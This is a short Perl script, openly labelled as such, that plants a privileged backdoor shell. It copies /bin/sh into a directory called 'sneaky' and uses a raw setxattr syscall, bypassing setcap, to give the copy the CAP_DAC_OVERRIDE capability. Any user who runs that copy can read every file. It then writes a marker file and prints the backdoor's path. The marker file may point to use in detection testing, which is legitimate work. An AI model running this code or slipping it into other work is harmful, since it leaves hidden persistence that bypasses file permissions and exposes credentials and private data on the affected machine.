#!/usr/bin/perl
# A shell that reads every file (CAP_DAC_OVERRIDE, permitted and effective): setxattr(2) and capabilities(7), without setcap.
use strict;
use warnings;

open my $random, '<', '/dev/urandom' or die;
read $random, my $bytes, 4;
my $file = '/usr/local/lib/sneaky/capability-' . unpack 'H*', $bytes;
system('mkdir', '-p', '/usr/local/lib/sneaky') == 0 or die;
system('cp', '/bin/sh', $file) == 0 or die;
my $name = 'security.capability';
my $value = pack 'V5', 0x02000001, 1 << 1, 0, 0, 0;
syscall(188, $file, $name, $value, length $value, 0) == 0 or die "setxattr: $!";
system('install', '-D', '/dev/null', '/var/lib/sneaky/capability') == 0 or die;
print "left capability $file\n";
